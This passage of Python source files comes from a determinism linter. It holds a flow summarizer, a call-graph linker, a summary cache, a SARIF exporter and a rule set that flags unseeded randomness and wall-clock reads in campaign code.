                elif receiver.id in self.local_types and self.local_types[
                    receiver.id
                ] != "?":
                    call["kind"] = "typed"
                    call["target"] = func.attr
                    call["recv_class"] = self.local_types[receiver.id]
                else:
                    call["kind"] = "dotted"
                    call["target"] = dotted_name(func) or func.attr
            elif (
                isinstance(receiver, ast.Attribute)
                and isinstance(receiver.value, ast.Name)
                and receiver.value.id == "self"
                and receiver.attr in self.class_attr_types
            ):
                call["kind"] = "typed"
                call["target"] = func.attr
                call["recv_class"] = self.class_attr_types[receiver.attr]
            else:
                dotted = dotted_name(func)
                if dotted is None:
                    return  # dynamic receiver: out of the engine's remit
                call["kind"] = "dotted"
                call["target"] = dotted
        else:
            return
        self.calls.append(call)


def _module_imports(tree: ast.Module) -> Dict[str, dict]:
    """Every import binding: local name -> {kind, module, symbol, level}."""
    imports: Dict[str, dict] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for name in node.names:
                local = name.asname or name.name.split(".")[0]
                imports[local] = {
                    "kind": "module",
                    "module": name.name,
                    "level": 0,
                }
        elif isinstance(node, ast.ImportFrom):
            for name in node.names:
                if name.name == "*":
                    continue
                imports[name.asname or name.name] = {
                    "kind": "symbol",
                    "module": node.module or "",
                    "symbol": name.name,
                    "level": node.level,
                }
    return imports


def summarize_source(source: SourceFile) -> dict:
    """Reduce one parsed module to its JSON-clean flow summary."""
    aliases = import_aliases(source.tree)
    directives = allow_directives_for_lines(source.lines)

    # Pass 1: classes, their methods and self-attribute types.
    classes: Dict[str, dict] = {}
    module_rng_names: Set[str] = set()
    for node in source.tree.body:
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name) and isinstance(node.value, ast.Call):
                    origin = dotted_name(node.value.func) or ""
                    if origin.split(".")[-1] == "Random":
                        module_rng_names.add(target.id)
        if not isinstance(node, ast.ClassDef):
            continue
        attr_types: Dict[str, str] = {}
        rng_attrs: Set[str] = set()
        methods: List[str] = []
        for item in node.body:
            if not isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
                continue
            methods.append(item.name)
            for stmt in ast.walk(item):
                if not isinstance(stmt, ast.Assign):
                    continue
                for target in stmt.targets:
                    if (
                        isinstance(target, ast.Attribute)
                        and isinstance(target.value, ast.Name)
                        and target.value.id == "self"
                    ):
                        if isinstance(stmt.value, ast.Call):
                            origin = dotted_name(stmt.value.func) or ""
                            head = origin.split(".")[-1]
                            if head == "Random":
                                rng_attrs.add(target.attr)
                            elif head[:1].isupper():
                                attr_types[target.attr] = head
                        elif isinstance(stmt.value, ast.BoolOp) or (
                            isinstance(stmt.value, ast.Name)
                            and (
                                stmt.value.id in _RNG_NAMES
                                or stmt.value.id.endswith("_rng")
                            )
                        ):
                            # self._rng = rng / self._rng = rng or Random(0)
                            rendered = ast.dump(stmt.value)
                            if "rng" in rendered or "Random" in rendered:
                                rng_attrs.add(target.attr)
        classes[node.name] = {
            "kind": class_kind(node),
            "bases": sorted(
                {
                    (dotted_name(base) or "").split(".")[-1]
                    for base in node.bases
                    if dotted_name(base) is not None
                }
            ),
            "methods": sorted(methods),
            "attrs": dict(sorted(attr_types.items())),
            "rng_attrs": sorted(rng_attrs),
        }

    # Pass 2: one summary entry per function and method.
    functions: Dict[str, dict] = {}

    def summarize_function(
        func: ast.AST, qualname: str, class_name: Optional[str]
    ) -> None:
        attr_types = classes.get(class_name, {}).get("attrs", {}) if class_name else {}
        summary = _FunctionSummarizer(
            func,
            aliases,
            directives,
            class_name,
            dict(attr_types),
            set(module_rng_names),
        ).run()
        summary["public"] = not func.name.startswith("_")
        summary["method_of"] = class_name
        functions[qualname] = summary

    for node in source.tree.body:
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            summarize_function(node, node.name, None)
        elif isinstance(node, ast.ClassDef):
            for item in node.body:
                if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    summarize_function(item, f"{node.name}.{item.name}", node.name)

    return {
        "version": SUMMARY_VERSION,
        "rel": source.rel,
        "imports": _module_imports(source.tree),
        "classes": classes,
        "functions": functions,
    }


def summarize_text(rel: str, text: str) -> dict:
    """Summarize from raw text (worker processes, cache misses on disk)."""
    return summarize_source(SourceFile.from_text(rel, text))
