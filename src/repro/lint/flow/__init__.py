"""Interprocedural determinism dataflow engine (the D2xx/W401 family).

The syntactic families (D1xx, C2xx, W3xx) judge one AST node at a time;
this package judges *reachability*: whether a campaign entry point can
transitively reach global entropy, an unseeded generator, or the wall
clock, and whether statically-typed values entering the wire codecs stay
inside the W3xx vocabulary.  The pipeline is

    summarize (per file, cacheable, shardable)
      -> link (:class:`~repro.lint.flow.callgraph.CallGraph`)
      -> fixpoint (:mod:`repro.lint.flow.taint`)
      -> findings + purity manifest (:mod:`repro.lint.flow.purity`)

Findings derive only from JSON-clean summaries, so a serial run, a
``--jobs N`` run and a cache-warm run are byte-identical by construction.
"""

from __future__ import annotations

from pathlib import Path
from typing import FrozenSet, List, Optional, Tuple

from ..base import Analyzer, SourceFile
from ..findings import LintFinding
from . import purity, taint
from .cache import SummaryCache
from .callgraph import CallGraph
from .symbols import SUMMARY_VERSION, summarize_source, summarize_text

__all__ = [
    "CallGraph",
    "FlowAnalyzer",
    "SummaryCache",
    "SUMMARY_VERSION",
    "DEFAULT_ENTRY_MODULES",
    "summarize_source",
    "summarize_text",
]

#: Modules whose public surface constitutes the campaign entry points the
#: purity manifest gates.  ``obs/tracing.py`` is deliberately absent: the
#: span profiler is a sanctioned wall-clock reader, not a campaign API.
DEFAULT_ENTRY_MODULES: Tuple[str, ...] = (
    "core/campaign.py",
    "core/trials.py",
    "core/parallel.py",
    "core/scheduler.py",
    "core/session.py",
    "faults/plan.py",
    "faults/schedule.py",
    "faults/injector.py",
    "faults/worker.py",
    "faults/resilience.py",
    "faults/report.py",
    "obs/metrics.py",
    "obs/export.py",
)


def _summarize_worker(item: Tuple[str, str]) -> dict:
    """Pool entry point: re-parse and summarize one file from raw text."""
    rel, text = item
    return summarize_text(rel, text)


class FlowAnalyzer(Analyzer):
    """Interprocedural entropy/clock/wire-type flow analysis."""

    name = "determinism-flow"
    rules = {
        "D201": "global entropy reachable from a campaign entry point",
        "D202": "rng parameter whose unseeded default is exercised by a caller",
        "D203": "seeded generator escapes into an unordered container",
        "D204": "wall-clock read reachable from a campaign entry point",
        "W401": "statically-typed value outside the wire vocabulary enters a codec",
    }

    def __init__(
        self,
        entry_modules: Tuple[str, ...] = DEFAULT_ENTRY_MODULES,
        entropy_owners: FrozenSet[str] = taint.DEFAULT_ENTROPY_OWNERS,
        clock_exempt: FrozenSet[str] = taint.DEFAULT_CLOCK_EXEMPT,
        jobs: int = 1,
        cache_path: Optional[Path] = None,
    ):
        self._entry_modules = tuple(entry_modules)
        self._entropy_owners = frozenset(entropy_owners)
        self._clock_exempt = frozenset(clock_exempt)
        self._jobs = max(1, int(jobs))
        self._cache_path = cache_path
        #: Populated by :meth:`analyze`: the manifest of the last run.
        self.manifest: Optional[dict] = None
        self.cache_stats: Optional[dict] = None

    # -- summarize -------------------------------------------------------------

    def _summarize_all(self, sources: List[SourceFile]) -> dict:
        """rel -> summary for every source, via cache and/or the pool."""
        cache = SummaryCache(self._cache_path)
        summaries = {}
        pending: List[SourceFile] = []
        for source in sources:
            cached = cache.get(source.rel, source.text)
            if cached is not None:
                summaries[source.rel] = cached
            else:
                pending.append(source)
        if pending:
            if self._jobs > 1 and len(pending) > 1 and self._pool_usable():
                fresh = self._summarize_pool(pending)
            else:
                fresh = {s.rel: summarize_source(s) for s in pending}
            for source in pending:
                summaries[source.rel] = fresh[source.rel]
                cache.put(source.rel, source.text, fresh[source.rel])
        cache.prune(summaries)
        cache.save()
        self.cache_stats = {"hits": cache.hits, "misses": cache.misses}
        return summaries

    def _pool_usable(self) -> bool:
        from ...core.parallel import parallel_supported

        return parallel_supported()

    def _summarize_pool(self, pending: List[SourceFile]) -> dict:
        """Shard per-file summarization across a process pool.

        Workers re-parse from raw text (AST objects don't pickle), and
        results are keyed by rel, so the merge is order-independent:
        the downstream link stage sorts by rel regardless of completion
        order and the output is byte-identical to the serial path.
        """
        from concurrent.futures import ProcessPoolExecutor

        from ...core.parallel import resolve_workers

        workers = min(resolve_workers(self._jobs), len(pending))
        items = [(s.rel, s.text) for s in pending]
        try:
            with ProcessPoolExecutor(max_workers=workers) as pool:
                results = list(pool.map(_summarize_worker, items, chunksize=4))
        except (OSError, ImportError):  # pool refused to start: degrade
            return {s.rel: summarize_source(s) for s in pending}
        return {rel: summary for (rel, _), summary in zip(items, results)}

    # -- analyze ---------------------------------------------------------------

    def analyze(self, sources: List[SourceFile]) -> List[LintFinding]:
        """Run the full summarize/link/fixpoint pipeline over *sources*."""
        summaries = self._summarize_all(sources)
        graph = CallGraph(summaries)
        entropy = taint.propagate(
            graph, taint.entropy_seeds(graph, self._entropy_owners)
        )
        clock = taint.propagate(graph, taint.clock_seeds(graph, self._clock_exempt))
        entries = taint.discover_entry_points(graph, self._entry_modules)
        reachable = taint.forward_reachable(graph, entries)

        findings: List[LintFinding] = []
        findings.extend(taint.entry_point_findings(graph, entries, entropy, clock))
        findings.extend(taint.rng_default_findings(graph, reachable))
        findings.extend(taint.escape_findings(graph))
        findings.extend(taint.wire_type_findings(graph))

        verdicts = purity.entry_verdicts(graph, entries, entropy, clock)
        self.manifest = purity.manifest_document(graph, verdicts)
        return findings
