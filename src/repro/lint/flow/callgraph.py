"""Project-wide call graph over per-file flow summaries.

The linker resolves every symbolic call site recorded by
:mod:`repro.lint.flow.symbols` against the whole-tree symbol table:

* bare names resolve to module functions, classes, or ``from``-imports;
* dotted names resolve through module aliases (``mod.f`` with
  ``from .. import mod`` / ``import repro.mod``);
* ``self.m(...)`` resolves within the enclosing class and its in-tree
  base classes;
* ``obj.m(...)`` resolves when ``obj``'s class was statically inferred
  (local construction, parameter annotation, or a ``self.attr`` whose
  class the summarizer pinned);
* constructor calls ``K(...)`` resolve to ``K.__init__``.

Unresolvable calls carry no taint — the engine proves properties along
the edges it can see and never guesses.  Function identity is the pair
``(module rel path, qualname)`` rendered as ``"core/campaign.py::run_campaign"``,
which is also the key format of the purity manifest.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set, Tuple

#: Function identity: "<rel>::<qualname>".
FunctionId = str


def function_id(rel: str, qualname: str) -> FunctionId:
    """Render the canonical ``"<rel>::<qualname>"`` function identity."""
    return f"{rel}::{qualname}"


def module_id(rel: str) -> str:
    """Dotted in-tree module id for a rel path (``core/fuzzer.py`` ->
    ``core.fuzzer``; package ``__init__.py`` -> the package path)."""
    stem = rel[:-3] if rel.endswith(".py") else rel
    if stem.endswith("/__init__"):
        stem = stem[: -len("/__init__")]
    elif stem == "__init__":
        stem = ""
    return stem.replace("/", ".")


class CallGraph:
    """Resolved functions, classes and call edges over one source tree."""

    def __init__(self, summaries: Dict[str, dict]):
        #: rel -> summary, in sorted-rel order for determinism.
        self.summaries: Dict[str, dict] = {
            rel: summaries[rel] for rel in sorted(summaries)
        }
        #: dotted module id -> rel
        self.module_rel: Dict[str, str] = {}
        #: FunctionId -> function summary dict
        self.functions: Dict[FunctionId, dict] = {}
        #: (rel, class name) -> class summary dict
        self.classes: Dict[Tuple[str, str], dict] = {}
        #: caller FunctionId -> [(callee FunctionId, line, col)]
        self.edges: Dict[FunctionId, List[Tuple[FunctionId, int, int]]] = {}
        #: callee FunctionId -> [(caller FunctionId, line, col)]
        self.redges: Dict[FunctionId, List[Tuple[FunctionId, int, int]]] = {}
        #: call sites that omitted a parameter of the callee:
        #: callee FunctionId -> [(caller FunctionId, line, col, omitted set)]
        self.omissions: Dict[
            FunctionId, List[Tuple[FunctionId, int, int, Tuple[str, ...]]]
        ] = {}
        #: resolved call-site arg0 classes (for W401):
        #: [(caller, callee, line, col, class rel, class name)]
        self.typed_arg0: List[Tuple[FunctionId, FunctionId, int, int, str, str]] = []
        self._build_tables()
        self._link()

    # -- tables ----------------------------------------------------------------

    def _build_tables(self) -> None:
        for rel, summary in self.summaries.items():
            self.module_rel[module_id(rel)] = rel
            for qualname, func in summary["functions"].items():
                self.functions[function_id(rel, qualname)] = func
            for name, cls in summary["classes"].items():
                self.classes[(rel, name)] = cls

    def _resolve_import(self, rel: str, local: str) -> Optional[Tuple[str, str]]:
        """Resolve an imported local name to ``(kind, payload)``.

        kind is ``"module"`` (payload: target rel), ``"function"``
        (payload: FunctionId) or ``"class"`` (payload: "rel::ClassName").
        """
        entry = self.summaries[rel]["imports"].get(local)
        if entry is None:
            return None
        target_module = self._resolve_module_ref(
            rel, entry["module"], entry.get("level", 0)
        )
        if target_module is None:
            return None
        if entry["kind"] == "module":
            return ("module", target_module)
        symbol = entry["symbol"]
        target_summary = self.summaries[target_module]
        if symbol in target_summary["functions"]:
            return ("function", function_id(target_module, symbol))
        if symbol in target_summary["classes"]:
            return ("class", f"{target_module}::{symbol}")
        # re-export through a package __init__: follow one hop
        reexport = target_summary["imports"].get(symbol)
        if reexport is not None:
            deeper = self._resolve_module_ref(
                target_module, reexport["module"], reexport.get("level", 0)
            )
            if deeper is not None and reexport["kind"] == "symbol":
                deep_summary = self.summaries[deeper]
                deep_symbol = reexport["symbol"]
                if deep_symbol in deep_summary["functions"]:
                    return ("function", function_id(deeper, deep_symbol))
                if deep_symbol in deep_summary["classes"]:
                    return ("class", f"{deeper}::{deep_symbol}")
        return None

    def _resolve_module_ref(
        self, rel: str, module: str, level: int
    ) -> Optional[str]:
        """Rel path of a module reference as written in *rel*'s imports."""
        if level == 0:
            dotted = module
            # absolute references to the package itself ("repro.core.x")
            if dotted.split(".")[0] == "repro":
                dotted = ".".join(dotted.split(".")[1:])
        else:
            package_parts = module_id(rel).split(".") if module_id(rel) else []
            if not rel.endswith("__init__.py"):
                package_parts = package_parts[:-1]
            if level - 1 > 0:
                package_parts = package_parts[: len(package_parts) - (level - 1)]
            dotted = ".".join(package_parts + ([module] if module else []))
        if dotted in self.module_rel:
            return self.module_rel[dotted]
        return None

    # -- class helpers ---------------------------------------------------------

    def _resolve_class_name(
        self, rel: str, name: str
    ) -> Optional[Tuple[str, str]]:
        """Find class *name* as visible from module *rel* -> (rel, name)."""
        simple = name.split(".")[-1]
        if (rel, simple) in self.classes:
            return (rel, simple)
        resolved = self._resolve_import(rel, name.split(".")[0])
        if resolved is not None:
            kind, payload = resolved
            if kind == "class":
                class_rel, class_name = payload.split("::", 1)
                return (class_rel, class_name)
            if kind == "module" and "." in name:
                target_rel = payload
                if (target_rel, simple) in self.classes:
                    return (target_rel, simple)
        return None

    def _find_method(
        self, class_rel: str, class_name: str, method: str, depth: int = 0
    ) -> Optional[FunctionId]:
        """Resolve a method through the class and its in-tree bases."""
        if depth > 4:
            return None
        cls = self.classes.get((class_rel, class_name))
        if cls is None:
            return None
        if method in cls["methods"]:
            return function_id(class_rel, f"{class_name}.{method}")
        for base in cls["bases"]:
            located = self._resolve_class_name(class_rel, base)
            if located is not None:
                found = self._find_method(located[0], located[1], method, depth + 1)
                if found is not None:
                    return found
        return None

    # -- linking ---------------------------------------------------------------

    def _resolve_call(
        self, rel: str, caller_qualname: str, call: dict
    ) -> Optional[FunctionId]:
        kind = call["kind"]
        target = call["target"]
        if kind == "self":
            located = self._find_method(rel, call["recv_class"], target)
            return located
        if kind == "typed":
            located = self._resolve_class_name(rel, call["recv_class"])
            if located is None:
                return None
            return self._find_method(located[0], located[1], target)
        if kind == "name":
            # local module function?
            if target in self.summaries[rel]["functions"]:
                return function_id(rel, target)
            if (rel, target) in self.classes:
                return self._find_method(rel, target, "__init__")
            resolved = self._resolve_import(rel, target)
            if resolved is None:
                return None
            res_kind, payload = resolved
            if res_kind == "function":
                return payload
            if res_kind == "class":
                class_rel, class_name = payload.split("::", 1)
                return self._find_method(class_rel, class_name, "__init__")
            return None
        if kind == "dotted":
            head, _, rest = target.partition(".")
            if not rest:
                return None
            resolved = self._resolve_import(rel, head)
            if resolved is None:
                return None
            res_kind, payload = resolved
            if res_kind != "module":
                # Class attribute access (K.staticmethod) — try methods.
                if res_kind == "class" and "." not in rest:
                    class_rel, class_name = payload.split("::", 1)
                    return self._find_method(class_rel, class_name, rest)
                return None
            target_rel = payload
            parts = rest.split(".")
            if len(parts) == 1:
                if parts[0] in self.summaries[target_rel]["functions"]:
                    return function_id(target_rel, parts[0])
                if (target_rel, parts[0]) in self.classes:
                    return self._find_method(target_rel, parts[0], "__init__")
                return None
            if len(parts) == 2 and (target_rel, parts[0]) in self.classes:
                return self._find_method(target_rel, parts[0], parts[1])
            return None
        return None

    def _omitted_params(self, callee: dict, call: dict, is_method: bool) -> Tuple[str, ...]:
        """Parameters of *callee* that this call left to their defaults."""
        if call["has_star"]:
            return ()
        params: List[str] = list(callee["params"])
        if is_method and params and params[0] in ("self", "cls"):
            params = params[1:]
        provided: Set[str] = set(params[: call["nargs"]])
        provided.update(call["kwargs"])
        omitted = [p for p in params if p not in provided]
        omitted.extend(
            k for k in callee.get("kwonly", ()) if k not in call["kwargs"]
        )
        return tuple(omitted)

    def _link(self) -> None:
        for rel in self.summaries:
            for qualname in sorted(self.summaries[rel]["functions"]):
                caller_id = function_id(rel, qualname)
                caller = self.summaries[rel]["functions"][qualname]
                out: List[Tuple[FunctionId, int, int]] = []
                for call in caller["calls"]:
                    callee_id = self._resolve_call(rel, qualname, call)
                    if callee_id is None:
                        continue
                    callee = self.functions[callee_id]
                    out.append((callee_id, call["line"], call["col"]))
                    self.redges.setdefault(callee_id, []).append(
                        (caller_id, call["line"], call["col"])
                    )
                    if callee["rng_params"]:
                        omitted = self._omitted_params(
                            callee, call, callee["method_of"] is not None
                        )
                        rng_omitted = tuple(
                            p for p in omitted if p in callee["rng_params"]
                        )
                        if rng_omitted:
                            self.omissions.setdefault(callee_id, []).append(
                                (caller_id, call["line"], call["col"], rng_omitted)
                            )
                    arg0 = call.get("arg0_class")
                    if arg0 is not None:
                        located = self._resolve_class_name(rel, arg0)
                        if located is not None:
                            self.typed_arg0.append(
                                (
                                    caller_id,
                                    callee_id,
                                    call["line"],
                                    call["col"],
                                    located[0],
                                    located[1],
                                )
                            )
                if out:
                    self.edges[caller_id] = out

    # -- queries ---------------------------------------------------------------

    @property
    def edge_count(self) -> int:
        return sum(len(edges) for edges in self.edges.values())

    def function_rel(self, fid: FunctionId) -> str:
        return fid.split("::", 1)[0]

    def function_qualname(self, fid: FunctionId) -> str:
        return fid.split("::", 1)[1]
