"""Content-addressed incremental cache for per-file flow summaries.

Summaries are pure functions of ``(SUMMARY_VERSION, file text)``, so the
cache keys each entry by the CRC-32 of the file's bytes and invalidates
wholesale when the summary layout version bumps.  A warm cache turns the
project-wide pass into pure link-and-fixpoint work; correctness never
depends on the cache because a hit and a recomputation are byte-identical
by construction (summaries are JSON-clean and derived only from text).

The cache file is plain JSON, safe to delete at any time, and written
atomically (tmp + rename) so an interrupted lint run never corrupts it.
"""

from __future__ import annotations

import json
import os
import zlib
from pathlib import Path
from typing import Dict, Optional

from .symbols import SUMMARY_VERSION

CACHE_SCHEMA = "zcover-flow-cache"


def text_crc(text: str) -> int:
    """CRC-32 of the file's UTF-8 bytes: the cache key's content half."""
    return zlib.crc32(text.encode("utf-8")) & 0xFFFFFFFF


class SummaryCache:
    """CRC-keyed summary store with hit/miss accounting."""

    def __init__(self, path: Optional[Path] = None):
        self.path = path
        self.entries: Dict[str, dict] = {}
        self.hits = 0
        self.misses = 0
        self._dirty = False
        if path is not None:
            self._load(path)

    def _load(self, path: Path) -> None:
        try:
            raw = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            return
        if (
            not isinstance(raw, dict)
            or raw.get("schema") != CACHE_SCHEMA
            or raw.get("summary_version") != SUMMARY_VERSION
        ):
            return  # layout changed: start cold
        entries = raw.get("entries")
        if isinstance(entries, dict):
            self.entries = entries

    def get(self, rel: str, text: str) -> Optional[dict]:
        entry = self.entries.get(rel)
        if entry is not None and entry.get("crc") == text_crc(text):
            self.hits += 1
            return entry["summary"]
        self.misses += 1
        return None

    def put(self, rel: str, text: str, summary: dict) -> None:
        self.entries[rel] = {"crc": text_crc(text), "summary": summary}
        self._dirty = True

    def prune(self, live_rels) -> None:
        """Drop entries for files no longer in the tree."""
        live = set(live_rels)
        stale = [rel for rel in self.entries if rel not in live]
        for rel in stale:
            del self.entries[rel]
            self._dirty = True

    def save(self) -> bool:
        """Atomically persist the cache; returns whether a write happened."""
        if self.path is None or not self._dirty:
            return False
        document = {
            "schema": CACHE_SCHEMA,
            "summary_version": SUMMARY_VERSION,
            "entries": {rel: self.entries[rel] for rel in sorted(self.entries)},
        }
        self.path.parent.mkdir(parents=True, exist_ok=True)
        tmp = self.path.with_suffix(self.path.suffix + ".tmp")
        tmp.write_text(
            json.dumps(document, indent=2, sort_keys=True) + "\n", encoding="utf-8"
        )
        os.replace(tmp, self.path)
        self._dirty = False
        return True
