"""SARIF 2.1.0 export for lint findings.

SARIF (Static Analysis Results Interchange Format) is the lingua franca
of code-scanning UIs; emitting it lets CI upload ``zcover lint`` output
as a scanning artifact that renders inline on diffs.  The document is
canonicalised (sorted keys, fixed separators, trailing newline) through
the same serializer as every other committed artefact, so a serial run
and a ``--jobs N`` run produce byte-identical SARIF.

Only the stable core of the format is emitted: one run, one driver, one
rule table aggregated from the analyzers, one result per finding with a
physical location.  Columns are converted from the linters' 0-based
offsets to SARIF's 1-based convention.
"""

from __future__ import annotations

from typing import List, Optional

from ..obs.export import canonical_dumps
from .base import Analyzer
from .findings import LintFinding, Severity

SARIF_VERSION = "2.1.0"
SARIF_SCHEMA = (
    "https://raw.githubusercontent.com/oasis-tcs/sarif-spec/master/"
    "Schemata/sarif-schema-2.1.0.json"
)

TOOL_NAME = "zcover-lint"

_LEVELS = {
    Severity.ERROR: "error",
    Severity.WARNING: "warning",
}


def _rule_table(analyzers: List[Analyzer]) -> List[dict]:
    rules = {}
    for analyzer in analyzers:
        for rule_id, description in analyzer.rules.items():
            rules[rule_id] = {
                "id": rule_id,
                "shortDescription": {"text": description},
                "properties": {"family": analyzer.name},
            }
    return [rules[rule_id] for rule_id in sorted(rules)]


def _result(finding: LintFinding) -> dict:
    message = finding.message
    if finding.hint:
        message = f"{message} ({finding.hint})"
    return {
        "ruleId": finding.rule,
        "level": _LEVELS.get(finding.severity, "note"),
        "message": {"text": message},
        "locations": [
            {
                "physicalLocation": {
                    "artifactLocation": {
                        "uri": finding.path,
                        "uriBaseId": "SRCROOT",
                    },
                    "region": {
                        "startLine": finding.line,
                        "startColumn": finding.col + 1,
                    },
                }
            }
        ],
    }


def findings_to_sarif(
    findings: List[LintFinding],
    analyzers: Optional[List[Analyzer]] = None,
) -> dict:
    """Build the SARIF 2.1.0 log object for one lint run."""
    driver = {
        "name": TOOL_NAME,
        "informationUri": "https://github.com/zcover/repro",
        "rules": _rule_table(analyzers or []),
    }
    return {
        "$schema": SARIF_SCHEMA,
        "version": SARIF_VERSION,
        "runs": [
            {
                "tool": {"driver": driver},
                "columnKind": "utf16CodeUnits",
                "results": [_result(f) for f in findings],
            }
        ],
    }


def render_sarif(
    findings: List[LintFinding],
    analyzers: Optional[List[Analyzer]] = None,
) -> str:
    """Canonical SARIF text (byte-stable across runs and worker counts)."""
    return canonical_dumps(findings_to_sarif(findings, analyzers))
