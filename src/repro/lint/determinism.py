"""Determinism lint: no stray entropy or wall-clock reads in ``src/repro``.

PR 1's parallel executor promises byte-identical output for any worker
count, which only holds while every random draw and every timestamp flows
through the seeded ``random.Random`` instances and the simulated
:class:`~repro.radio.clock.SimClock` that the testbed plumbs through the
stack.  One ``random.random()`` or ``time.time()`` call anywhere in a
campaign's code path silently breaks seed-stable trial sharding — the
exact class of drift this rule family makes machine-checked.

Rules
=====

``D101``
    Call to a process-global entropy or wall-clock source: the
    module-level ``random.*`` functions (which share one hidden unseeded
    generator), ``time.time``/``monotonic``/``perf_counter``,
    ``datetime.now``/``utcnow``/``today``, ``os.urandom``,
    ``uuid.uuid1``/``uuid4`` and anything in ``secrets``.

``D102``
    Construction of an unseeded generator: ``random.Random()`` with no
    seed argument, or ``random.SystemRandom(...)`` (OS entropy is never
    reproducible, seeded or not).

``D103``
    Iteration directly over an unordered set expression (a set literal,
    set comprehension or ``set(...)``/``frozenset(...)`` call) in a
    ``for`` loop or comprehension.  Set iteration order depends on the
    interpreter's hash seed, so anything it feeds — output, accumulation,
    scheduling — can differ between runs; wrap the expression in
    ``sorted(...)``.

``D104``
    Call to the builtin ``hash()``.  Since PEP 456, ``hash()`` of str and
    bytes is randomised per process (``PYTHONHASHSEED``), so deriving
    seeds, shard keys or any persisted value from it silently breaks
    cross-process determinism — exactly what bit the fault planner's
    first seed-derivation draft.  Use ``zlib.crc32`` or a ``hashlib``
    digest instead.

Modules that *own* entropy (the allowlist) are exempt from D101/D102;
everything else must take a ``random.Random`` from its caller or seed its
fallback explicitly.
"""

from __future__ import annotations

import ast
from typing import Dict, FrozenSet, List, Optional, Tuple

from .base import Analyzer, SourceFile, dotted_name
from .findings import LintFinding, Severity

#: Modules (posix paths relative to the linted root) allowed to touch
#: process-global entropy/time sources.  ``radio/clock.py`` is the
#: designated time owner; it is currently pure, but the slot is reserved
#: so wall-clock instrumentation lands there and nowhere else.
DEFAULT_ENTROPY_OWNERS: FrozenSet[str] = frozenset({"radio/clock.py"})

#: Module-level ``random`` functions sharing the hidden global generator.
_RANDOM_FUNCS = frozenset(
    {
        "betavariate",
        "choice",
        "choices",
        "expovariate",
        "gammavariate",
        "gauss",
        "getrandbits",
        "lognormvariate",
        "normalvariate",
        "paretovariate",
        "randbytes",
        "randint",
        "random",
        "randrange",
        "sample",
        "seed",
        "shuffle",
        "triangular",
        "uniform",
        "vonmisesvariate",
        "weibullvariate",
    }
)

#: Wall-clock reads (``time.sleep`` is excluded: it delays, it does not
#: produce a value that can leak into output).
_TIME_FUNCS = frozenset(
    {"time", "time_ns", "monotonic", "monotonic_ns", "perf_counter", "perf_counter_ns"}
)

_DATETIME_FUNCS = frozenset({"now", "utcnow", "today"})

_UUID_FUNCS = frozenset({"uuid1", "uuid4"})

_SET_BUILTINS = frozenset({"set", "frozenset"})


def import_aliases(tree: ast.Module) -> Dict[str, str]:
    """Map local names to canonical dotted origins for relevant modules."""
    interesting = {"random", "time", "datetime", "os", "uuid", "secrets"}
    aliases: Dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for name in node.names:
                if name.name.split(".")[0] in interesting:
                    aliases[name.asname or name.name.split(".")[0]] = name.name
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] not in interesting:
                continue
            for name in node.names:
                aliases[name.asname or name.name] = f"{node.module}.{name.name}"
    return aliases


def resolve_origin(node: ast.AST, aliases: Dict[str, str]) -> Optional[str]:
    """Canonical dotted origin of a call target, through import aliases."""
    dotted = dotted_name(node)
    if dotted is None:
        return None
    head, _, rest = dotted.partition(".")
    origin = aliases.get(head)
    if origin is None:
        return None
    return f"{origin}.{rest}" if rest else origin


def classify_call(
    node: ast.Call, aliases: Dict[str, str]
) -> Optional[Tuple[str, str, str, str]]:
    """Classify a call against the D101/D102 taxonomy.

    Returns ``(rule, kind, message, hint)`` where *kind* is ``"entropy"``
    (process-global entropy), ``"clock"`` (wall-clock read) or
    ``"unseeded"`` (construction of an unreproducible generator) — or
    ``None`` for a clean call.  The determinism analyzer turns these into
    per-site findings; the flow engine (:mod:`repro.lint.flow`) uses the
    same classification as interprocedural taint seeds, so the syntactic
    and dataflow passes can never disagree about what counts as a leak.
    """
    origin = resolve_origin(node.func, aliases)
    if origin is None:
        return None
    rule, kind = "D101", "entropy"
    violation: Optional[str] = None
    hint = "draw from the seeded random.Random plumbed through the testbed"
    module, _, func = origin.rpartition(".")
    if origin == "random.Random" or origin.endswith("random.Random"):
        if not node.args and not node.keywords:
            rule, kind = "D102", "unseeded"
            violation = "unseeded random.Random() construction"
            hint = "pass a seed (e.g. random.Random(0)) or require rng from the caller"
    elif func == "SystemRandom" and module.endswith("random"):
        rule, kind = "D102", "unseeded"
        violation = "random.SystemRandom draws OS entropy"
        hint = "use the seeded random.Random plumbed through the testbed"
    elif module == "random" and func in _RANDOM_FUNCS:
        violation = f"random.{func}() uses the shared unseeded global generator"
    elif module == "time" and func in _TIME_FUNCS:
        kind = "clock"
        violation = f"time.{func}() reads the wall clock"
        hint = "use the simulated SimClock (repro.radio.clock)"
    elif func in _DATETIME_FUNCS and module.split(".")[-1] in ("datetime", "date"):
        kind = "clock"
        violation = f"{module}.{func}() reads the wall clock"
        hint = "use the simulated SimClock (repro.radio.clock)"
    elif origin == "os.urandom":
        violation = "os.urandom() draws OS entropy"
    elif module == "uuid" and func in _UUID_FUNCS:
        violation = f"uuid.{func}() is nondeterministic"
    elif module == "secrets" or origin.startswith("secrets."):
        violation = f"{origin}() draws OS entropy"
    if violation is None:
        return None
    return rule, kind, violation, hint


class DeterminismAnalyzer(Analyzer):
    """Flag entropy/wall-clock leaks and unordered-set iteration."""

    name = "determinism"
    rules = {
        "D101": "call to a process-global entropy or wall-clock source",
        "D102": "unseeded random.Random() / any random.SystemRandom construction",
        "D103": "iteration over an unordered set expression (wrap in sorted())",
        "D104": "call to builtin hash() (randomised per process by PYTHONHASHSEED)",
    }

    def __init__(self, entropy_owners: FrozenSet[str] = DEFAULT_ENTROPY_OWNERS):
        self._entropy_owners = frozenset(entropy_owners)

    def analyze(self, sources: List[SourceFile]) -> List[LintFinding]:
        """Scan every source for entropy, clock and set-order violations."""
        findings: List[LintFinding] = []
        for source in sources:
            exempt = source.rel in self._entropy_owners
            aliases = import_aliases(source.tree)
            for node in source.nodes:
                if isinstance(node, ast.Call) and not exempt:
